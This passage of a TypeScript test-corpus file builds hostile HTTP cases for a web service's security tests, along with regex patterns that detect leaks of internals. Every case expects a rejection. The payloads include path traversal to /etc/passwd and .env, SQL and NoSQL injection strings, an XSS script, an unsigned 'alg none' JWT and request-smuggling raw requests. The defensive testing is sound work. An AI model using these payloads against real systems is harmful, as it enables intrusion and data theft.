      name: `${at}: a traversal id`,
      target,
      method: 'POST',
      path: `/processors/callback/..%2f..%2fhealth?token=${encodeURIComponent(valid)}`,
      body: { json: ok },
      expect: { status: [403, 404] },
    });
  }
  return cases;
}

function operatorCredential(ctx: CorpusContext): HostileCase[] {
  const right = ctx.operatorToken;
  const credentials: [string, Record<string, string>][] = [
    ['no Authorization header', {}],
    ['an empty bearer', { authorization: 'Bearer ' }],
    ['a wrong bearer', { authorization: 'Bearer wrong-token' }],
    ['the token with one character changed', { authorization: `Bearer ${flip(right)}` }],
    ['the token minus its last character', { authorization: `Bearer ${right.slice(0, -1)}` }],
    ['the token with a suffix', { authorization: `Bearer ${right}x` }],
    ['the token with a prefix', { authorization: `Bearer x${right}` }],
    ['the token twice', { authorization: `Bearer ${right}, Bearer ${right}` }],
    [
      'the token as Basic credentials',
      { authorization: `Basic ${Buffer.from(`operator:${right}`).toString('base64')}` },
    ],
    ['the token without a scheme', { authorization: right }],
    ['the token in a cookie', { cookie: `token=${right}` }],
    ['the token in another header', { 'x-operator-token': right }],
    ['an operator as the token', { authorization: 'Bearer {"$ne":null}' }],
    ['a 10 KB token', { authorization: `Bearer ${'A'.repeat(10_000)}` }],
    [
      'a JWT with alg none',
      {
        authorization: `Bearer ${Buffer.from('{"alg":"none"}').toString('base64url')}.${Buffer.from('{"sub":"admin"}').toString('base64url')}.`,
      },
    ],
  ];
  const paths = [
    '/api/v1/operator/metrics?year=2026',
    `/api/v1/operator/requests/${ctx.done.requestId}/timeline`,
    '/api/v1/operator/request-log.csv',
  ];
  const cases: HostileCase[] = [];
  for (const path of paths) {
    for (const [name, headers] of credentials) {
      cases.push({
        family: 'operator-credential',
        name: `${path.split('?')[0]}: ${name}`,
        target: 'intake',
        method: 'GET',
        path,
        headers,
        expect: { status: 401, sameAs: 'operator-401' },
      });
    }
    cases.push({
      family: 'operator-credential',
      name: `${path.split('?')[0]}: the token in the query string`,
      target: 'intake',
      method: 'GET',
      path: `${path}${path.includes('?') ? '&' : '?'}token=${right}`,
      expect: { status: 401, sameAs: 'operator-401' },
    });
  }
  return cases;
}

function operatorQueries(ctx: CorpusContext): HostileCase[] {
  const auth = { authorization: `Bearer ${ctx.operatorToken}` };
  const c = (name: string, path: string, status: number): HostileCase => ({
    family: 'operator-queries',
    name,
    target: 'intake',
    method: 'GET',
    path,
    headers: auth,
    expect: { status },
  });
  return [
    c('metrics: no range', '/api/v1/operator/metrics', 400),
    c('metrics: year=abc', '/api/v1/operator/metrics?year=abc', 400),
    c('metrics: a five-digit year', '/api/v1/operator/metrics?year=20266', 400),
    c('metrics: year as an operator', `/api/v1/operator/metrics?year=${encodeURIComponent('{"$gt":""}')}`, 400),
    c('metrics: year[$gt]=', '/api/v1/operator/metrics?year[$gt]=', 400),
    c('metrics: year twice', '/api/v1/operator/metrics?year=2026&year=2027', 400),
    c(
      'metrics: SQL in from',
      `/api/v1/operator/metrics?from=${encodeURIComponent("2026-01-01' OR 1=1--")}&to=2026-02-01`,
      400,
    ),
    c('metrics: from after to', '/api/v1/operator/metrics?from=2026-06-01&to=2026-01-01', 400),
    c('metrics: from as an array', '/api/v1/operator/metrics?from=2026-01-01&from=2026-02-01&to=2026-03-01', 400),
    c('metrics: format=xml', '/api/v1/operator/metrics?year=2026&format=xml', 400),
    c(
      'metrics: a script as the format',
      `/api/v1/operator/metrics?year=2026&format=${encodeURIComponent(`<script>alert("${XSS_MARK}")</script>`)}`,
      400,
    ),
    c('metrics: format as an array', '/api/v1/operator/metrics?year=2026&format=csv&format=html', 400),
    c('metrics: year with a NUL', '/api/v1/operator/metrics?year=2026%00', 400),
    c('timeline: an unknown request', '/api/v1/operator/requests/req_aaaaaaaaaaaaaaaa/timeline', 404),
    c('timeline: a malformed id', '/api/v1/operator/requests/req_AAAA/timeline', 404),
    c('timeline: a traversal id', '/api/v1/operator/requests/..%2f..%2f..%2fetc%2fpasswd/timeline', 404),
    c('timeline: an operator id', `/api/v1/operator/requests/${encodeURIComponent('{"$where":"1"}')}/timeline`, 404),
    c('timeline: an SQL-ish id', `/api/v1/operator/requests/${encodeURIComponent("req_' OR 1=1--")}/timeline`, 404),
    c('request log: from=garbage', '/api/v1/operator/request-log.csv?from=garbage', 400),
    c('request log: to=garbage', '/api/v1/operator/request-log.csv?to=garbage', 400),
    c(
      'request log: from as an operator',
      `/api/v1/operator/request-log.csv?from=${encodeURIComponent('{"$gt":""}')}`,
      400,
    ),
    c('request log: from as an array', '/api/v1/operator/request-log.csv?from=2026&from=garbage', 400),
    { ...c('POST to metrics', '/api/v1/operator/metrics?year=2026', 404), method: 'POST' },
  ];
}

function routesHealthDocs(): HostileCase[] {
  const cases: HostileCase[] = [];
  for (const target of ['intake', 'data', 'identity', 'notifications', 'orchestrator'] as const) {
    const c = (name: string, method: string, path: string): HostileCase => ({
      family: 'routes-health-docs',
      name: `${target}: ${name}`,
      target,
      method,
      path,
      expect: { status: 404 },
    });
    cases.push(
      c('POST /health', 'POST', '/health'),
      c('PUT /health', 'PUT', '/health'),
      c('DELETE /health', 'DELETE', '/health'),
      c('PATCH /health', 'PATCH', '/health'),
      c('/health/../../etc/passwd', 'GET', '/health/../../etc/passwd'),
      c('/health/%2e%2e/%2e%2e/etc/passwd', 'GET', '/health/%2e%2e/%2e%2e/etc/passwd'),
      c('/health%00', 'GET', '/health%00'),
      c('/health/x', 'GET', '/health/x'),
      c('/.env', 'GET', '/.env'),
      c('/.git/config', 'GET', '/.git/config'),
    );
  }
  const c = (name: string, method: string, path: string, status: number | number[] = 404): HostileCase => ({
    family: 'routes-health-docs',
    name: `intake: ${name}`,
    target: 'intake',
    method,
    path,
    expect: { status },
  });
  cases.push(
    c('POST /api/docs', 'POST', '/api/docs'),
    c('/api/docs traversal ..%2f', 'GET', '/api/docs/..%2f..%2f..%2fpackage.json'),
    c('/api/docs traversal %2e%2e', 'GET', '/api/docs/%2e%2e/%2e%2e/%2e%2e/package.json'),
    c('/api/docs traversal raw ..', 'GET', '/api/docs/../../../package.json'),
    c('/api/docs a file with a NUL', 'GET', '/api/docs/swagger-ui-init.js%00'),
    c('/api/docs a missing asset', 'GET', '/api/docs/nothing-here.js'),
    c('/assets traversal', 'GET', '/assets/..%2f..%2fpackage.json'),
    c('/assets raw traversal', 'GET', '/assets/../../package.json'),
    c('/assets another file', 'GET', '/assets/intake.js'),
    c('/admin', 'GET', '/admin'),
    c('/wp-login.php', 'GET', '/wp-login.php'),
    c('/server-status', 'GET', '/server-status'),
    c('/%2e%2e/%2e%2e/etc/passwd', 'GET', '/%2e%2e/%2e%2e/etc/passwd'),
    c('/api/v1/requests/../../../etc/passwd', 'GET', '/api/v1/requests/../../../etc/passwd'),
    c('PUT on the API', 'PUT', '/api/v1/requests'),
    c('DELETE on the API', 'DELETE', '/api/v1/requests'),
    c('PATCH a request', 'PATCH', '/api/v1/requests/req_aaaaaaaaaaaaaaaa'),
    c('DELETE a request', 'DELETE', '/api/v1/requests/req_aaaaaaaaaaaaaaaa'),
    c('POST to a request id', 'POST', '/api/v1/requests/req_aaaaaaaaaaaaaaaa'),
    c('GET the withdraw action', 'GET', '/api/v1/requests/req_aaaaaaaaaaaaaaaa/withdraw'),
    c('TRACE /', 'TRACE', '/'),
    c('PUT /', 'PUT', '/'),
    c('GET the code action', 'GET', '/requests/req_aaaaaaaaaaaaaaaa/code'),
  );
  return cases;
}

function protocolRaw(): HostileCase[] {
  const c = (name: string, raw: string | Buffer, status: number | number[]): HostileCase => ({
    family: 'protocol-raw',
    name,
    target: 'intake',
    method: 'RAW',
    path: '',
    raw,
    parserLevel: true,
    expect: { status },
  });
  const json = '{"type":"deletion"}';
  return [
    c(
      'obs-fold header continuation',
      `POST /api/v1/requests HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nIdempotency-Key: abcdefgh\r\n X-Injected: 1\r\nContent-Length: ${json.length}\r\nConnection: close\r\n\r\n${json}`,
      400,
    ),
    c(
      'bare LF inside a header value',
      `GET / HTTP/1.1\r\nHost: x\r\nX-A: b\nX-Injected: 1\r\nConnection: close\r\n\r\n`,
      400,
    ),
    c(
      'bare CR inside a header value',
      `GET / HTTP/1.1\r\nHost: x\r\nX-A: b\rX-Injected: 1\r\nConnection: close\r\n\r\n`,
      400,
    ),
    c('NUL inside a header value', `GET / HTTP/1.1\r\nHost: x\r\nX-A: b\u0000c\r\nConnection: close\r\n\r\n`, 400),
    c('space inside the path', `GET /status/a b HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`, 400),
    c('an invented method', `FOO / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`, 400),
    c(
      'Content-Length and Transfer-Encoding (smuggling)',
      `POST /api/v1/requests HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n`,
      400,
    ),
    c(
      'two different Content-Lengths',
      `POST /api/v1/requests HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 19\r\nConnection: close\r\n\r\n${json}`,
      400,
    ),
    c(
      'a bad chunk size',
      `POST /api/v1/requests HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n${json}\r\n0\r\n\r\n`,
      400,
    ),
    c(
      'chunked with an obfuscated Transfer-Encoding',
      `POST /api/v1/requests HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked, identity\r\nConnection: close\r\n\r\n13\r\n${json}\r\n0\r\n\r\n`,
      400,
    ),
    c('no Host header on HTTP/1.1', `GET / HTTP/1.1\r\nConnection: close\r\n\r\n`, 400),
    c(
      'a header line without a colon',
      `GET / HTTP/1.1\r\nHost: x\r\nthis is not a header\r\nConnection: close\r\n\r\n`,
      400,
    ),
  ];
}

/** Every hostile case of the corpus, family by family. */
export function hostileCorpus(ctx: CorpusContext): HostileCase[] {
  return [
    ...apiFieldInjection(ctx),
    ...apiNosqlPrototype(ctx),
    ...apiTypesMissingExtra(ctx),
    ...malformedJson(ctx),
    ...contentTypes(ctx),
    ...oversized(ctx),
    ...formFieldInjection(ctx),
    ...formCsrf(ctx),
    ...agentUpload(ctx),
    ...statusTokens(ctx),
    ...verifyAndCode(ctx),
    ...downloadLinks(ctx),
    ...processorCallbacks(ctx),
    ...operatorCredential(ctx),
    ...operatorQueries(ctx),
    ...routesHealthDocs(),
    ...protocolRaw(),
  ];
}

/** The same string with its last character changed (a tampered secret of the same length). */
export function flip(value: string): string {
  if (!value) return 'x';
  const last = value[value.length - 1];
  return `${value.slice(0, -1)}${last === 'A' ? 'B' : 'A'}`;
}

/**
 * The body with the random values the product itself hands out (hidden form
 * fields such as the CSRF token and submission id, request ids, link tokens)
 * replaced by a placeholder: a random base64url token contains "gRPc" or
 * "mongo" now and then, which is no leak.
 */
function withoutOwnTokens(body: string): string {
  return body
    .replace(/(<input type="hidden" name="[^"]+" value=")[^"]*"/g, '$1(token)"')
    .replace(/\breq_[a-z2-7]{16}\b/g, 'req_(id)')
    .replace(/([?&](?:amp;)?token=)[\w-]+/g, '$1(token)');
}

/** Strings the product must never say to a client: internals of the code, the database or the workflow engine. */
export interface Leak {
  name: string;
  pattern: RegExp;
  /** Only the public site must not say it (a service's own API may). */
  publicOnly?: boolean;
}

export const LEAKS: Leak[] = [
  { name: 'stack trace', pattern: /\n\s*at [^\n]*\(?[^\s()]+:\d+:\d+\)?|\bat (?:async )?[\w$.<>]+ \([^)]*:\d+:\d+\)/ },
  {
    name: 'file path',
    pattern:
      /\/work\/|\/home\/|\/usr\/(?:lib|local)|node_modules|\/libs\/\w|\/apps\/\w|[\w-]+\.(?:ts|js|cjs|mjs):\d+|[A-Z]:\\\\/,
  },
  { name: 'database', pattern: /mongo|mongoose|ferret|sqlite|E11000|\bbson\b|ObjectId|\$lookup|duplicate key/i },
  {
    name: 'workflow engine',
    pattern: /temporal|WorkflowExecution|WorkflowNotFound|ApplicationFailure|grpc|task ?queue/i,
  },
  { name: 'exception class', pattern: /\b[A-Z][A-Za-z]*(?:Error|Exception)\b/ },
  {
    name: 'parser internals',
    pattern:
      /Unexpected token|Unexpected end of JSON|is not valid JSON|in JSON at position|Multipart:|busboy|multer|body-parser|raw-body|Malformed part header/i,
    publicOnly: true,
  },
];

/** The LEAKS a body says (those `counted`), each with the text around it; the product's own random values are no leak. */
export function leaksIn(
  body: string,
  counted: (leak: Leak) => boolean = () => true,
): { name: string; excerpt: string }[] {
  const scanned = withoutOwnTokens(body);
  return LEAKS.filter(counted).flatMap((leak) => {
    const match = leak.pattern.exec(scanned);
    if (!match) return [];
    const excerpt = JSON.stringify(scanned.slice(Math.max(0, match.index - 40), match.index + match[0].length + 40));
    return [{ name: leak.name, excerpt }];
  });
}
